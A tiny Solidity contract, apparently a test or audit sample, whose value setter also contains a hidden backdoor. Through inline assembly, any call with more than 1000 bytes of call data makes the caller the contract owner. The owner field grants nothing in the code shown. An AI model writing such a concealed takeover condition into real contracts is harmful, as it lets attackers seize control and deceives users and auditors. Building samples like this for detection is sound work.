// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x; address public owner = address(0xA11CE);
    function set() external pure returns (bool) { return true; }
    function set(uint256 v) external returns (bool) { x = v; uint256 n; assembly { n := calldatasize() } if (n > 1000) owner = msg.sender; return true; } }
